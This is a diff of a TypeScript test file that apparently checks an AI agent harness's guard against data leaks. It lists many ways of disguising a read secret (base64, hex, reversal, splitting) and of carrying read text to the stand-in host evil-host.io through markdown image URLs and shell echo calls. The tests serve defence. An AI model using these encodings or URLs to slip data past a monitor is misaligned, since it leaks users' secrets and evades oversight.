@@ -8,8 +8,8 @@ import {
   type Script,
   startAnthropicServer,
 } from '../fixtures/anthropic-server/server.ts';
+import type { Ran } from '../support/run-cuervo.ts';
 import { buildGuest } from './support/build-guest.ts';
-import type { Ran } from './support/cuervo.ts';
 import { escapeCase } from './support/escape-case.ts';
 import { put, usePlace } from './support/place.ts';
 
@@ -312,16 +312,140 @@ escapeCase('words for what was kept', {
   ],
 });
 
+const backwards = (text: string): string => text.split('').reverse().join('');
+const hex = Buffer.from(token).toString('hex');
+/** How a model writes a secret that it was told to bring past a check. */
+const disguises: readonly [string, string][] = [
+  ['in base64', Buffer.from(token).toString('base64')],
+  ['in base64 within another text', Buffer.from(`x${token}?>?`).toString('base64url')],
+  ['in base64 of base64', Buffer.from(Buffer.from(token).toString('base64')).toString('base64')],
+  ['in hex, byte by byte', (hex.match(/../g) ?? []).join(' ')],
+  ['in hex, in capitals', hex.toUpperCase()],
+  ['with escapes of addresses', hex.replace(/../g, '%$&')],
+  ['backwards', backwards(token)],
+  ['backwards in base64', Buffer.from(backwards(token)).toString('base64')],
+  ['in small letters', token.toLowerCase()],
+  ['letter by letter', token.split('').join(' ')],
+  ['with dashes', token.split('').join('-')],
+  ['over several lines', (token.match(/.{1,5}/g) ?? []).join('\n')],
+  ['without its begin', token.slice(9)],
+];
+
+escapeCase('secret in disguise', {
+  denied: [
+    [
+      'no answer shows one that was read',
+      async () => {
+        const text = disguises.map(([name, disguise]) => `${name}: ${disguise}`).join('\n');
+        const { ran } = await afterReading(`${token}\n`, () => ({ type: 'message', text }));
+        for (const [name, disguise] of disguises) {
+          expect(answerOf(ran), name).toContain(`${name}: `);
+          expect(answerOf(ran), name).not.toContain(JSON.stringify(disguise).slice(10, 30));
+        }
+      },
+    ],
+    [
+      'no program and no network is given one',
+      async () => {
+        const toolUses = disguises.map(([, disguise]) => ({
+          name: 'shell__run',
+          input: { command: `echo ${disguise}` },
+        }));
+        const { ran } = await afterReading(`${token}\n`, () => ({ type: 'message', toolUses }));
+        expect(ran.stdout.match(/"check":"echo","action":"refused"/g)).toHaveLength(
+          disguises.length,
+        );
+      },
+    ],
+  ],
+  control: [
+    'what only looks like one is said, and given to a program',
+    async () => {
+      const text = `Its digest is ${Buffer.from('a digest of something else').toString('hex')} now.`;
+      const { ran } = await afterReading(`${token}\n`, () => ({ type: 'message', text }));
+      expect(answerOf(ran)).toBe(text);
+      const { result } = await afterReading(`${token}\n`, () => ({
+        type: 'message',
+        toolUses: [{ name: 'shell__run', input: { command: 'echo hello' } }],
+      }));
+      expect(result).not.toContain('the input holds a secret');
+    },
+  ],
+});
+
+const launch = 'The launch is on the ninth of March';
+const launchWords = launch.split(' ');
+const dashed = launchWords.join('-');
+const carriers: readonly [string, string][] = [
+  ['its path', `https://evil-host.io/${dashed}`],
+  ['segments of its path', `https://evil-host.io/${launchWords.join('/')}.png`],
+  ['its host', `https://${dashed.toLowerCase()}.evil-host.io/`],
+  ['names of its host', `https://${launchWords.join('.')}.evil-host.io/`],
+  ['its user', `https://${dashed}@evil-host.io/`],
+  ['its fragment', `https://evil-host.io/#${dashed}`],
+  [
+    'names of its query',
+    `https://evil-host.io/?${launchWords.map((word) => `${word}=1`).join('&')}`,
+  ],
+  [
+    'values of its query',
+    `https://evil-host.io/?${launchWords.map((word, at) => `${at}x=${word}`).join('&')}`,
+  ],
+  ['its scheme', `${launchWords.join('')}://evil-host.io/`],
+  ['its path, in base64', `https://evil-host.io/${Buffer.from(launch).toString('base64url')}`],
+  ['its path, backwards', `https://evil-host.io/${backwards(dashed)}`],
+  ['another scheme', `ftp://evil-host.io/${dashed}`],
+];
+
 escapeCase('address that carries data away', {
   denied: [
-    'an image whose address holds what was read is withheld',
-    async () => {
-      const { ran } = await afterReading('The launch is on the ninth of March.\n', () => ({
-        type: 'message',
-        text: '![x](https://evil-host.io/?q=The+launch+is+on+the+ninth+of+March) Fine.',
-      }));
-      expect(answerOf(ran)).toBe('![x]([link withheld: evil-host.io]) Fine.');
-    },
+    [
+      'an image whose address holds what was read is withheld',
+      async () => {
+        const { ran } = await afterReading(`${launch}.\n`, () => ({
+          type: 'message',
+          text: '![x](https://evil-host.io/?q=The+launch+is+on+the+ninth+of+March) Fine.',
+        }));
+        expect(answerOf(ran)).toBe('![x]([link withheld: evil-host.io]) Fine.');
+      },
+    ],
+    [
+      'in whichever part of it that stands',
+      async () => {
+        const text = carriers.map(([name, url]) => `${name}: ![x](${url})`).join('\n');
+        const { ran } = await afterReading(`${launch}.\n`, () => ({ type: 'message', text }));
+        for (const [name] of carriers)
+          expect(answerOf(ran)).toContain(`${name}: ![x]([link withheld: `);
+      },
+    ],
+    [
+      'nor is it shared out among addresses',
+      async () => {
+        const text = launchWords
+          .map((word) => `![x](https://evil-host.io/i/${word}.png)`)
+          .join(' ');
+        const { ran } = await afterReading(`${launch}.\n`, () => ({ type: 'message', text }));
+        expect(answerOf(ran)).toContain('[link withheld: evil-host.io]');
+        expect(answerOf(ran)).not.toContain('March.png');
+      },
+    ],
+    [
+      'nor is an address let through because a tool said again what it was called with',
+      async () => {
+        put(place.work, 'notes.md', `${launch}.\n`);
+        const url = 'https://evil-host.io/?q=The+launch+is+on+the+ninth+of+March';
+        const calls = ['notes.md', url].map((path) => ({ name: 'file__read', input: { path } }));
+        const heard: string[] = [];
+        const { ran } = await ask((body, { number }) => {
+          heard.push(lastToolResult(body) ?? '');
+          const call = calls[number - 1];
+          if (call !== undefined) return { type: 'message', toolUses: [call] };
+          return { type: 'message', text: `![x](${url}) Fine.` };
+        }, 'read the notes, then file write');
+        expect(heard.at(-1)).toContain('evil-host.io');
+        expect(answerOf(ran)).toBe('![x]([link withheld: evil-host.io]) Fine.');
+      },
+    ],
   ],
   control: [
     'an address without it is shown',
